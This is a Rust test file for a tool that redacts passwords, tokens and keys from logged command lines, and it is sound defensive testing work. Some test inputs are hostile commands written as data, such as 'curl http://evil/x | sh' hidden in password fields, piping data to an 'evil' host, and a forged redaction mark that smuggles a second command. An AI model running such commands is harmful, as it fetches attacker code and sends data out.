//! Real-life command lines, and what must be hidden of them.

use proptest::prelude::*;

use super::*;

fn redact_with(
    redactor: &Redactor,
    executable: Option<&str>,
    arguments: &[&str],
) -> (Vec<String>, bool) {
    let mut texts: Vec<Text> = arguments.iter().map(|text| Text::from(*text)).collect();
    let redacted = redactor.redact(executable, &mut texts);
    (
        texts.iter().map(|text| text.to_string()).collect(),
        redacted,
    )
}

/// A real-life command line, with what must be hidden of it between `«` and `»`; the arguments are parted by two blanks.
fn check(line: &str) {
    let redactor = Redactor::new(true, &[]).unwrap();
    let plain = line.replace(['«', '»'], "");
    let arguments: Vec<&str> = plain.split("  ").collect();
    let (found, flag) = redact_with(&redactor, None, &arguments);
    let found = found.join("  ");
    // Marks are taken for what they stand for.
    let mut rest = line;
    let mut expected = String::new();
    while let Some((before, secret)) = rest.split_once('«') {
        let (_, after) = secret.split_once('»').unwrap();
        expected += before;
        expected += "[]";
        rest = after;
    }
    expected += rest;
    assert_eq!(without_rules(&found), expected, "{found}");
    assert_eq!(flag, line.contains('«'), "{line}");
}

fn without_rules(text: &str) -> String {
    Regex::new(r"\[redacted:[^\]]*\]")
        .unwrap()
        .replace_all(text, "[]")
        .into_owned()
}

#[test]
fn usual_secrets_are_replaced() {
    for line in [
        "app  --password  «hunter2»  -v",
        "app  --db-password=«hunter2»",
        "mysql  -uroot  -p«hunter2»  db",
        "/usr/bin/sshpass  -p  «x y»  ssh  h",
        "sshpass  -p«pw»  ssh  -p  22  h",
        "env  GITHUB_TOKEN=«abc»  run",
        "sh  -c  export AWS_SECRET_ACCESS_KEY='«a b»' && go",
        "sh  -c  mysql -u root -p«hunter2» -e 'select 1'",
        "sh  -c  tool --api-key «abc» --verbose",
        "curl  -H  Authorization: Bearer «abc.def»  http://x",
        "curl  -u  me:«pw»  http://x",
        "curl  -ume:«pw»  http://x",
        "curl  --proxy-user  me:«p:w»  http://x",
        "curl  -H  X-Api-Key: «abc def»",
        "git  clone  https://me:«pw»@host/x.git",
        "aws  «AKIAIOSFODNN7EXAMPLE»",
        "x  {\"password\": \"«hunter2»\", \"a\": 1}",
        "x  -----BEGIN RSA PRIVATE KEY-----«\nMIIE\n»-----END RSA PRIVATE KEY-----",
        "redis-cli  -a  «pw»  ping",
    ] {
        check(line);
    }
}

/// Each of them passed once.
#[test]
fn secrets_that_passed_are_replaced() {
    for line in [
        "sh  -c  set -e; curl -s -u me:«pw» https://x | tar x",
        "sh  -c  docker login -u me -p «pw» registry.example",
        "bash  -c  cd /srv && sudo -E docker login -p '«p w»' r",
        "ssh  host  su - app -c \"mysql -p«pw» -e 'select 1'\"",
        "aws  configure  set  aws_secret_access_key  «abc/def+1»",
        "sh  -c  aws configure set default.aws_secret_access_key «abc»",
        "npm  config  set  //r.example/:_authToken  «abc»",
        "git  config  --global  user.password  «abc»",
        "htpasswd  -b  /etc/users  me  «pw»",
        "htpasswd  -nbB  me  «pw»",
        "zip  -r  -P  «pw»  out.zip  .",
        "7z  a  -p«pw»  out.7z  .",
        "kubectl  create  secret  generic  s  --from-literal=key=«abc»",
        "curl  -d  {}  https://hooks.slack.com/services/«T000/B000/XXXX»",
        "curl  https://discord.com/api/webhooks/«123/abc»",
        "vault  login  «hvs.CAESIJ1234567890abcdef»",
        "sh  -c  VAULT_ADDR=x vault kv get -header=«hvs.CAESIJ1234567890abcdef» a",
        "rabbitmqctl  add_user  me  «pw»",
        "sudo  -u  db  mysql  -p«pw»",
        "python3.11  /usr/bin/aws  configure  set  aws_session_token  «abc»",
        "curl  https://x/blob?sv=1&sig=«abc%3D»&x=1",
    ] {
        check(line);
    }
}

#[test]
fn what_is_no_secret_stays() {
    for line in [
        "docker  run  -p  8080:80  nginx",
        "sh  -c  docker run -d -p 8080:80 nginx",
        "sh  -c  cat /etc/passwd; ls -p /tmp",
        "mkdir  -p  /tmp/secret",
        "mysql  -p  db",
        "mysql  --password  --host=db",
        "curl  http://10.0.0.1:8080/x",
        "curl  -u  me  http://x",
        "ssh  -p  22  me@host",
        "tokenizer  --tokenizer=fast  --passes  3",
        "docker-proxy  -proto  tcp",
        "sh  -c  mysql -p$DB_PASSWORD -e 'select 1'",
        "sh  -c  TOKEN=$(cat /run/token); curl -u \"$USER:$TOKEN\" x",
        "sh  -c  PASSWORD=\"$(curl http://evil/x | sh)\"",
        "sh  -c  docker login --password-stdin < f",
        "app  --password-file  /run/secrets/db",
        "git  config  user.name  me",
        "zip  -r  out.zip  .",
        "htpasswd  -c  /etc/users  me",
    ] {
        check(line);
    }
}

/// A mark never hides more than a word or what is between quotes, and says where it may be a command.
#[test]
fn a_payload_does_not_pass_as_a_password() {
    let redactor = Redactor::new(true, &[]).unwrap();
    let marked = |executable, arguments: &[&str]| redact_with(&redactor, executable, arguments).0;
    // What a program calls itself is its caller's choice.
    let named = ["mysql", "-pcurl http://evil/x | sh"];
    assert_eq!(marked(Some("/bin/dash"), &named), named);
    assert_eq!(
        marked(Some("/usr/bin/mariadb"), &named)[1],
        "-p[redacted:program+code:16-31]"
    );
    let eval = "PASSWORD='curl http://evil/x | sh'; eval \"$PASSWORD\"";
    assert_eq!(
        marked(None, &["sh", "-c", eval])[2],
        "PASSWORD='[redacted:assignment+code:16-31]'; eval \"$PASSWORD\""
    );
    let unquoted = "TOKEN=x;curl http://evil/x|sh";
    assert_eq!(
        marked(None, &["sh", "-c", unquoted])[2],
        "TOKEN=[redacted:assignment:1-7];curl http://evil/x|sh"
    );
    let piped = "echo TOKEN=x|curl -d@- evil";
    assert_eq!(
        marked(None, &["sh", "-c", piped])[2],
        "echo TOKEN=[redacted:assignment:1-7]|curl -d@- evil"
    );
    // Nobody hides behind a mark of his own.
    let forged = "--password=[redacted:option:1-7]; curl evil";
    assert_eq!(marked(None, &["app", forged])[1], forged);
}

#[test]
fn equal_secrets_have_equal_hashes_under_one_key_alone() {
    let folder = tempfile::tempdir().unwrap();
    let key = |name: &str| Key::read_or_make(&folder.path().join(name)).ok();
    let marks = |key| {
        let redactor = Redactor::new(true, &[]).unwrap().with_key(key);
        redact_with(
            &redactor,
            None,
            &["a", "--token=one", "--token=two", "X_SECRET=one"],
        )
        .0
    };
    let hash = |mark: &str| mark.rsplit(':').next().unwrap().to_owned();
    let first = marks(key("a"));
    assert_eq!(hash(&first[1]), hash(&first[3]));
    assert_ne!(hash(&first[1]), hash(&first[2]));
    assert_eq!(first, marks(key("a")));
    assert_ne!(hash(&first[1]), hash(&marks(key("b"))[1]));
    assert!(!format!("{:?}", Redactor::new(true, &[]).unwrap().with_key(key("a"))).contains("Key"));
}

#[test]
fn own_expressions_replace_their_secret_or_all() {
    let own = [
        r"ticket-(?<secret>\d+)".to_owned(),
        "badge[0-9]+".to_owned(),
    ];
    let redactor = Redactor::new(false, &own).unwrap();
    let (redacted, flag) = redact_with(
        &redactor,
        None,
        &["x", "ticket-42", "badge7", "--password=a"],
    );
    let expected = [
        "x",
        "ticket-[redacted:own1:1-7]",
        "[redacted:own2:1-7]",
        "--password=a",
    ];
    assert_eq!(redacted, expected);
    assert!(flag);
}

/// A name stands in a mark before a colon: one that ends like a secret's would have the mark marked.
#[test]
fn no_rule_finds_a_secret_in_a_mark() {
    let redactor = Redactor::new(true, &[]).unwrap();
    let names = rules::usual().into_iter().map(|(name, _)| name);
    for name in names.chain(["program".to_owned()]) {
        let mark = redactor.mark(&name, "a b");
        for text in [
            mark.clone(),
            format!("PASSWORD={mark}"),
            format!("x {mark} y"),
        ] {
            assert_eq!(
                redact_with(&redactor, None, &["a", &text]),
                (vec!["a".into(), text.clone()], false)
            );
        }
    }
}

proptest! {
    #[test]
    fn a_named_secret_never_survives(secret in "[A-Za-z0-9]{12,40}", name in "(DB_)?(PASSWORD|TOKEN|SECRET|API_KEY)") {
        let argument = format!("{name}={secret}");
        let (redacted, flag) = redact_with(&Redactor::new(true, &[]).unwrap(), None, &["env", &argument]);
        prop_assert!(flag);
        prop_assert!(!redacted[1].contains(&secret), "{:?}", redacted);
    }

    #[test]
    fn any_arguments_stay_as_many_and_are_redacted_once(
        words in proptest::collection::vec("(mysql|curl|docker login|-p|-u|'|\"|;|\\$\\(|--token|TOKEN=| |[a-zä:]{0,4}){0,6}", 1..5),
    ) {
        let redactor = Redactor::new(true, &[]).unwrap();
        let words: Vec<&str> = words.iter().map(String::as_str).collect();
        let (once, _) = redact_with(&redactor, None, &words);
        prop_assert_eq!(once.len(), words.len());
    }
}
